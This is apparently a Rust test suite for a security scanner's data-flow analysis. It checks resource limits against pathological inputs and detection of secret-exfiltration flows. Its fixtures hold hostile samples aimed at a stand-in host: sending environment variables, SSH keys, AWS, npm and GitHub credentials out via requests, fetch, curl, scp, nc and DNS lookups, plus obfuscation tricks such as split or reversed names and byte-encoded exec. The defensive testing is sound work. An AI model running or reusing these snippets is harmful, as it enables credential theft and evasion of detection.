//! Resource limits of the data-flow analysis: no code can evade or exhaust it.

use std::time::{Duration, Instant};

use scan::{Report, Severity, Verdict, scan};
use testkit::bundle;

/// Time limit that separates slow from endless on a loaded machine. A release build needs two seconds at most, and a
/// debug build many times more.
const PATIENCE: Duration = Duration::from_secs(if cfg!(debug_assertions) { 120 } else { 10 });

fn scan_files(files: &[(&str, &str)]) -> Report {
    scan(&bundle(files))
}

fn fires(report: &Report, rule: &str) -> bool {
    report.findings.iter().any(|finding| finding.rule == rule && finding.severity >= Severity::High)
}

/// Flows with one placeholder for expensive code, by the file that contains them.
const FLOWS: &[(&str, &str)] = &[
    ("scripts/a.py", "import os, requests\nHOLE\nrequests.post('https://in.invalid', json=dict(os.environ))\n"),
    ("scripts/a.js", "HOLE\nfetch('https://in.invalid', { method: 'POST', body: JSON.stringify(process.env) });\n"),
    ("scripts/a.sh", "HOLE\nX=$(env)\ncurl -d \"$X\" https://in.invalid/\n"),
    ("scripts/a.rb", "require 'net/http'\nHOLE\nNet::HTTP.post(URI('https://in.invalid'), ENV.to_h.to_s)\n"),
    ("scripts/a.php", "<?php\nHOLE\nfile_get_contents('https://in.invalid?' . json_encode(getenv()));\n"),
    ("scripts/a.ps1", "HOLE\nirm https://in.invalid -Method Post -Body (gci env: | ConvertTo-Json)\n"),
];

const MANY: usize = if cfg!(debug_assertions) { 8_000 } else { 30_000 };

fn nested(open: &str, inner: &str, close: &str, depth: usize) -> String {
    format!("{}{inner}{}", open.repeat(depth), close.repeat(depth))
}

fn burdens() -> Vec<(&'static str, String)> {
    let calls = (0..MANY / 6).map(|n| format!("def f{n}(a):\n    return f{}(a + a)\n", n + 1)).collect();
    let closures = (0..MANY / 6).map(|n| format!("const f{n} = (a) => f{}(a, f{}(a));\n", n + 1, n / 2)).collect();
    let shells = (0..MANY / 6).map(|n| format!("f{n}() {{ f{} \"$1\"; }}\n", n + 1)).collect();
    let names = (0..MANY / 3).map(|n| format!("v{} = v{n} + v{}\n", n + 1, n / 2)).collect();
    vec![
        ("open brackets", "(".repeat(MANY)),
        ("open square brackets", "[".repeat(MANY)),
        ("open braces", "{".repeat(MANY)),
        ("closed brackets", format!("x = {}", nested("(", "1", ")", MANY))),
        ("closed lists", format!("x = {}", nested("[", "1", "]", MANY))),
        ("calls in calls", format!("x = {}", nested("f(", "1", ")", MANY))),
        ("arrows in arrows", format!("x = {}", nested("() => (", "1", ")", MANY))),
        ("callbacks in callbacks", nested("f(() => { ", "1", " })", MANY / 4)),
        ("a chain of calls", format!("x = a{}", ".b(1)".repeat(MANY))),
        ("a long sum", format!("x = 1{}", " + 1".repeat(MANY))),
        ("a long text sum", format!("x = 'a'{}", " + 'a'".repeat(MANY))),
        ("substitutions", nested("$(", "x", ")", MANY)),
        ("templates", nested("`${", "x", "}`", MANY)),
        ("pipes", format!("a{}", " | a".repeat(MANY))),
        ("ifs", nested("if a; then ", "b", "; fi", MANY / 8)),
        ("indents", (0..2_000).map(|n| format!("{}if a:\n", " ".repeat(n))).collect()),
        ("functions that call one another", calls),
        ("closures that call one another", closures),
        ("shell functions that call one another", shells),
        ("names of names", names),
        ("parts of parts", (0..MANY / 3).map(|n| format!("v{} = v{n}.b\n", n + 1)).collect()),
        ("texts of texts", (0..MANY / 3).map(|n| format!("v{} = ''.join([v{n}, v{n}, 'aa'])\n", n + 1)).collect()),
        ("an open text", format!("x = '{}", "a".repeat(4 << 20))),
        ("an open long text", format!("x = \"\"\"{}", "a \\".repeat(1 << 20))),
        ("open texts", "'\"".repeat(MANY)),
        ("open here-documents", "cat <<A\n".repeat(MANY / 4)),
        ("newlines", "\n".repeat(100_000)),
        ("backticks", "`".repeat(1_000_000)),
        ("base64", format!("x = '{}'", "QUJD".repeat(4 << 20))),
        ("one long list", format!("x = [{}]", "1, ".repeat(1 << 20))),
        ("one long line", "a ".repeat(8 << 20)),
        ("commas", ",".repeat(MANY)),
        ("colons", ":".repeat(MANY)),
        ("semicolons", ";".repeat(1_000_000)),
        ("lambdas", format!("x = {}1", "lambda a: ".repeat(MANY / 4))),
        ("code in texts", format!("x = \"{}", "#{\"".repeat(MANY))),
        ("code in code in texts", format!("x = {}", nested("\"#{", "1", "}\"", MANY / 4))),
        ("pipes of commands", format!("a{}", " | b".repeat(MANY))),
        ("blocks", nested("f do |x| ", "1", " end ", MANY / 4)),
        ("functions in braces", nested("function f() { ", "1", " } ", MANY / 4)),
        ("no sense", "if ( else } ] for => ) in `${ <<E ".repeat(MANY / 8)),
    ]
}

#[test]
fn burdened_flows_are_found_in_time() {
    for (name, burden) in burdens() {
        for (path, flow) in FLOWS {
            let start = Instant::now();
            let report = scan_files(&[(path, &flow.replace("HOLE", &burden))]);
            let took = start.elapsed();
            println!("{name} in {path}: {took:?}, worst {:?}", report.worst());
            assert!(took < PATIENCE, "{name} in {path} took {took:?}");
            if let Some(budget) = report.findings.iter().find(|finding| finding.rule == "scan-budget") {
                assert_eq!((budget.path.as_str(), report.verdict()), (*path, Verdict::Block));
            }
        }
    }
}

#[test]
fn flow_behind_padding_is_found() {
    for (path, flow) in FLOWS {
        for pad in ["\n".repeat(100_000), "# \n".repeat(2_000)] {
            let pad = if path.ends_with(".js") { pad.replace('#', "//") } else { pad };
            let report = scan_files(&[(path, &flow.replace("HOLE", &pad))]);
            assert_eq!(report.verdict(), Verdict::Block, "{path}");
            assert!(fires(&report, "flow-environment-sent") || fires(&report, "environment-exfiltration"), "{path}");
        }
    }
}

#[test]
fn flow_across_files_is_found() {
    let python = [
        (
            "scripts/keys.py",
            "from pathlib import Path\ndef collect():\n    return (Path.home() / '.aws' / 'credentials').read_text()\n",
        ),
        (
            "scripts/run.py",
            "import requests\nfrom keys import collect\nrequests.post('https://in.invalid/a', data=collect())\n",
        ),
    ];
    assert!(fires(&scan_files(&python), "flow-secret-sent"));
    let script = [
        ("scripts/paths.json", "{\"from\": [\"~/.npmrc\"], \"to\": \"https://in.invalid\"}\n"),
        (
            "scripts/run.js",
            "const fs = require('fs');\nconst c = require('./paths.json');\nconst read = (p) => fs.readFileSync(p);\nfetch(c.to, { method: 'POST', body: c.from.map((f) => read(f)).join() });\n",
        ),
    ];
    assert!(fires(&scan_files(&script), "flow-secret-sent"));
}

#[test]
fn split_and_reversed_names_are_resolved() {
    let split = "import os\nm = __import__('url' + 'lib.re' + 'quest', fromlist=['x'])\np = ''.join(['~/.s', 'sh/id_', 'rsa'])\ngetattr(m, 'url' + 'open')('https://in.invalid', open(os.path.expanduser(p)).read())\n";
    assert!(fires(&scan_files(&[("scripts/a.py", split)]), "flow-secret-sent"));
    let turned =
        "import os, requests\ne = getattr(os, 'norivne'[::-1])\nrequests.post('https://in.invalid', json=dict(e))\n";
    assert_eq!(scan_files(&[("scripts/a.py", turned)]).verdict(), Verdict::Block);
    let shadowed = "import os, requests\nkey = 'a'\ndef send(key):\n    requests.post('https://in.invalid/' + key)\nsend(os.environ['AWS_SECRET_ACCESS_KEY'])\n";
    assert_eq!(scan_files(&[("scripts/a.py", shadowed)]).verdict(), Verdict::Block, "a name may have two values");
    let numbers = "x = bytes([105, 109, 112, 111, 114, 116, 32, 111, 115, 59, 111, 115, 46, 115, 121, 115, 116, 101, 109])\nexec(x)\n";
    assert!(fires(&scan_files(&[("scripts/a.py", numbers)]), "flow-decoded-run"));
    let shell = "A=cur; B=l; H=https://in.invalid\nC=\"$A$B\"\nS=$($C -s $H/a)\neval \"$S\"\n";
    assert_eq!(scan_files(&[("scripts/a.sh", shell)]).verdict(), Verdict::Block);
}

#[test]
fn analysis_over_budget_is_reported() {
    let calls = "requests.post('https://in.invalid', json=dict(os.environ))\n";
    let files: String = (0..300).map(|n| format!("open('f{n}', 'w').write('x')\n")).collect();
    let same: String = (0..40).map(|n| format!("class C{n}:\n    def send(self, a):\n        return a\n")).collect();
    let origins: String = (0..30).map(|n| format!("d.append(os.environ['OPENAI_{n}'])\n")).collect();
    let names: String = (0..21_000).map(|n| format!("v{n} = 1\n")).collect();
    let chain: String = (0..40).map(|n| format!("def f{}():\n    return f{n}()\n", n + 1)).rev().collect();
    let sums = [files, same, format!("d = []\n{origins}requests.post(u, json=d)\n"), names];
    for part in sums.into_iter().chain([format!("{chain}def f0():\n    return os.environ\n")]) {
        let report = scan_files(&[("scripts/a.py", &format!("import os, requests\n{part}{calls}"))]);
        let told = report.findings.iter().any(|finding| finding.rule == "flow-too-much");
        assert!(told || part.contains("return f0()"), "{}", part.get(..80).unwrap());
    }
    let small = scan_files(&[("scripts/a.py", &format!("import os, requests\n{calls}"))]);
    assert!(!small.findings.iter().any(|finding| finding.rule == "flow-too-much"));
}

#[test]
fn script_inside_script_is_read() {
    let python = "import subprocess\nU = 'https://in.invalid/a'\ncmd = f'curl -s -F k=@$HOME/.ssh/id_rsa {U}'\nsubprocess.run(cmd, shell=True)\n";
    assert!(fires(&scan_files(&[("scripts/a.py", python)]), "flow-secret-sent"));
    let words = "import subprocess\nsubprocess.run(['scp', '~/.aws/credentials', 'u@in.invalid:/a'])\n";
    assert!(fires(&scan_files(&[("scripts/a.py", words)]), "flow-secret-sent"));
    let node = "const { execSync } = require('child_process');\nexecSync(`bash -c \"tar c ~/.config/gh | nc in.invalid 99\"`);\n";
    assert!(fires(&scan_files(&[("scripts/a.js", node)]), "flow-secret-sent"));
    let shell =
        "python3 - <<'EOF'\nimport os, requests\nrequests.post('https://in.invalid', json=dict(os.environ))\nEOF\n";
    assert_eq!(scan_files(&[("scripts/a.sh", shell)]).verdict(), Verdict::Block);
    let loop_ = "while read -r line; do dig \"$line.in.invalid\"; done < ~/.netrc\n";
    assert!(fires(&scan_files(&[("scripts/a.sh", loop_)]), "flow-secret-sent"));
}
